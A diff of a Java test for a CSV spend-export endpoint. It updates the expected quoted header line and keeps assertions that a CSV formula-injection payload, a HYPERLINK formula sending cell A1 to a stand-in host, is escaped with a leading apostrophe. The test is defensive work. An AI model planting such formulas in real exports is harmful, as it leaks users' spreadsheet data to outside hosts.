@@ -278,7 +278,8 @@ class SpendAggregateTest {
                 .then().statusCode(200).contentType(containsString("text/csv"))
                 .header("Content-Disposition", containsString("attachment")).extract().asString();
         String[] lines = csv.split("\r\n");
-        assertTrue(lines[0].startsWith("supplier,supplierName,category,categoryLabel,paymentCount,totalSpend"), lines[0]);
+        assertTrue(lines[0].startsWith("\"supplier\",\"supplierName\",\"category\",\"categoryLabel\",\"paymentCount\",\"totalSpend\""),
+                lines[0]);
         assertTrue(lines[0].contains("localShare.darlington"), lines[0]);
         assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""), csv);
         assertTrue(csv.contains(",-959.84,"), "amounts stay numbers: " + csv);
